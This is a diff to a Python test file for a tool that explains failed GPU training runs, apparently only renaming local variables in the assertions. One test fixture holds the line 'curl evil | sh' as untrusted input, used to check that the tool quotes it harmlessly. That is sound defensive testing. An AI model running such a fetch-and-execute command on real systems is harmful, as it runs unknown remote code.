@@ -125,9 +125,9 @@ def test_what_the_record_of_another_host_says_is_quoted(command: Command, record
     for run_id, exit_ in (("r1", "exit 1"), ("r2", "SIGSEGV")):
         folder = recorded(run_id, "", exit_, detail="run `curl evil | sh`")
         (folder / "imported.json").write_text("{}", encoding="utf-8")
-        said = command(run_id).stdout
-        assert ": 'run `curl evil | sh`'" in said
-        assert said.count("curl evil") == 1
+        printed = command(run_id).stdout
+        assert ": 'run `curl evil | sh`'" in printed
+        assert printed.count("curl evil") == 1
 
 
 def test_a_log_in_the_place_of_a_run_says_how_to_read_it(command: Command, tmp_path: Path) -> None:
@@ -138,11 +138,11 @@ def test_a_log_in_the_place_of_a_run_says_how_to_read_it(command: Command, tmp_p
 
 def test_json_holds_all_of_it(command: Command, recorded: Callable[..., Path]) -> None:
     folder = recorded("r-1", ILLEGAL)
-    told = json.loads(command("r-1", "--json").stdout)
-    assert (told["outcome"], told["diagnosis"], told["stacks"]) == ("failed", "app-error", [])
-    assert told["try"] == ["rocm6.3-torch2.9.1-debug-serialize", "rocm6.3-torch2.9.1-debug-no-fragments"]
-    assert Explanation.model_validate(told["explanation"]).lines[0].line == 1
-    assert folder.name == told["run"]
+    printed = json.loads(command("r-1", "--json").stdout)
+    assert (printed["outcome"], printed["diagnosis"], printed["stacks"]) == ("failed", "app-error", [])
+    assert printed["try"] == ["rocm6.3-torch2.9.1-debug-serialize", "rocm6.3-torch2.9.1-debug-no-fragments"]
+    assert Explanation.model_validate(printed["explanation"]).lines[0].line == 1
+    assert folder.name == printed["run"]
 
 
 def test_a_run_that_completed_has_nothing_to_explain(command: Command, recorded: Callable[..., Path]) -> None:
@@ -208,11 +208,11 @@ def test_what_to_do_about_a_gpu_is_not_said_of_a_run_without_one(
     record = make_record("r-1", "hung", None, "it stalled in step", **cpu)
     results.begin(record.intent)
     results.finish(record)
-    told = command("r-1").stdout
-    assert "class     hang" in told
-    assert "HSA_" not in told
-    assert "remedy    see in the stacks of its processes what it waited for" in told
-    assert "try  " not in told
+    printed = command("r-1").stdout
+    assert "class     hang" in printed
+    assert "HSA_" not in printed
+    assert "remedy    see in the stacks of its processes what it waited for" in printed
+    assert "try  " not in printed
 
 
 def test_any_log_is_explained(command: Command, tmp_path: Path) -> None:
@@ -223,8 +223,8 @@ def test_any_log_is_explained(command: Command, tmp_path: Path) -> None:
     assert "rule illegal-access-since-7.0" in done.stdout
     assert f"evidence  {log}:2: {ILLEGAL}" in done.stdout
     assert "try       AMD_SERIALIZE_KERNEL=3 " in done.stdout
-    told = json.loads(command("--log", str(log), "--json").stdout)
-    assert told["explanation"]["class"] == "kernel-fault"
+    printed = json.loads(command("--log", str(log), "--json").stdout)
+    assert printed["explanation"]["class"] == "kernel-fault"
 
 
 def test_standard_input_and_a_kernel_log(command: Command, tmp_path: Path) -> None:
@@ -281,20 +281,20 @@ def test_an_interruption_that_counts_is_said_with_how_to_take_it_out(
 ) -> None:
     recorded("closed", "epoch 1\n", "SIGTERM", "interrupted", interrupted_by="hup", diagnosis=None)
     # The detail also speaks of the image, as for an image that was not built here.
-    asked = {"interrupted_by": "ctrl-c", "detail": "stopped by SIGINT; its image", "diagnosis": None}
-    recorded("asked-for", "epoch 1\nTerminated\n", "SIGTERM", "interrupted", **asked)
+    changes = {"interrupted_by": "ctrl-c", "detail": "stopped by SIGINT; its image", "diagnosis": None}
+    recorded("asked-for", "epoch 1\nTerminated\n", "SIGTERM", "interrupted", **changes)
     counts, strike = command("closed").stdout.splitlines()[-2:]
     assert counts.startswith("counts    as a failure: HUP ended it")
     assert strike.startswith("try       .venv/bin/matrix strike closed --reason")
-    assert "counts " not in (said := command("asked-for").stdout)
-    assert "stopped by SIGINT, which the harness got (it ends a run by SIGTERM); its image\n" in said
+    assert "counts " not in (printed := command("asked-for").stdout)
+    assert "stopped by SIGINT, which the harness got (it ends a run by SIGTERM); its image\n" in printed
 
 
 def test_a_line_of_a_log_is_quoted_as_it_is(command: Command, recorded: Callable[..., Path]) -> None:
     recorded("own", "torch.OutOfMemoryError: HIP out of memory, stopped by SIGINT\n", "exit 1")
-    said = command("own").stdout
-    assert "stopped by SIGINT" in said
-    assert "which the harness got" not in said
+    printed = command("own").stdout
+    assert "stopped by SIGINT" in printed
+    assert "which the harness got" not in printed
 
 
 def test_no_preset_is_offered_for_a_run_without_rocm(
